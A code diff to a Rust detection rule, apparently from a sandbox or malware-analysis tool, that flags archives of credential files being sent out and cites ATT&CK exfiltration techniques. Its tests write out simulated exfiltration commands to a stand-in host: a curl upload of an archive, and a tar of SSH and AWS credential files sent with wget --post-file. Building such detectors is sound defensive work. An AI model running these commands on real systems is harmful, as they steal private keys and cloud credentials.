@@ -6,6 +6,8 @@
 //!   in what is sent have no honest reason.
 //! - Source: ATT&CK T1560.001, T1048.003, T1041, T1003.008.
 
+use std::{collections::BTreeSet, path::Path};
+
 use model::{Category, Confidence, Maturity, Severity, Weight, What};
 
 use crate::{About, Behaviour, Judge, Match, indicators, payload, programs::Program, story::Story};
@@ -74,13 +76,21 @@ fn judge(story: &Story<'_>) -> Vec<Match> {
             && (ARCHIVES.iter().any(|mark| bytes.windows(mark.len().max(1)).take(1_024).any(|window| window == *mark))
                 || bytes.get(257..262) == Some(b"ustar"))
         {
-            found.push(told(&format!("an archive, after {}", model::text::shortened(&packed.line(), 80))).draft());
+            let told = told(&format!("an archive, after {}", model::text::shortened(&packed.line(), 80)));
+            // A backup takes folders; who names keys one by one wants the keys.
+            found.push(if named_kinds(story, &packed) >= 2 { told.proof() } else { told.draft() });
         }
         if found.len() >= 8 {
             break;
         }
     }
     found
+}
+
+/// How many kinds of decoy credentials the packer was told to take by name.
+fn named_kinds(story: &Story<'_>, packed: &Program<'_>) -> usize {
+    let named = |canary: &&model::Canary| canary.path.as_ref().is_some_and(|path| packed.arguments.contains(path));
+    story.trace.head.canaries.iter().filter(named).map(|canary| &canary.kind).collect::<BTreeSet<_>>().len()
 }
 
 /// Whether what was packed is what is sent: by its name, or through a pipe.
@@ -92,7 +102,9 @@ fn is_sent(story: &Story<'_>, packed: &Program<'_>, at: usize) -> bool {
     let named = packed.arguments.iter().skip(1).filter(is_output).any(|output| line.contains(output.as_str()));
     let reads = story.life(sender).is_some_and(|of| {
         of.reads.iter().rev().take(256).any(|read| match story.what(*read) {
-            Some(What::Open { path, .. }) => packed.arguments.iter().any(|argument| argument == path),
+            Some(What::Open { path, .. }) => {
+                packed.arguments.iter().skip(1).any(|argument| Path::new(path).ends_with(argument))
+            }
             _ => false,
         })
     });
@@ -113,6 +125,17 @@ mod tests {
         let curl = run.spawn(1, "/usr/bin/curl", &["curl", "-F", "f=@/tmp/o.tgz", "http://drop.example/u"]);
         run.http_with(curl, "POST", "http://drop.example/u", "empty", b"\x1f\x8b\x08\x00abc", None);
         hit(&BEHAVIOUR, run, Weight::Sign, "sends an archive, after tar czf /tmp/o.tgz /root to drop.example");
+    }
+
+    #[test]
+    fn keys_that_were_named_one_by_one() {
+        let mut run = Run::new();
+        let files = ["/root/.ssh/id_rsa", "/root/.aws/credentials"];
+        run.spawn(1, "/usr/bin/busybox", &["tar", "-czf", ".a.tgz", files[0], files[1]]);
+        let sender = run.spawn(1, "/usr/bin/busybox", &["wget", "--post-file=/tmp/.a.tgz", "http://drop.example/u"]);
+        run.read(sender, "/tmp/.a.tgz");
+        run.http_with(sender, "POST", "http://drop.example/u", "empty", b"\x1f\x8b\x08", None);
+        hit(&BEHAVIOUR, run, Weight::Proof, "sends an archive, after tar -czf .a.tgz /root/.ssh/id_rsa");
     }
 
     #[test]
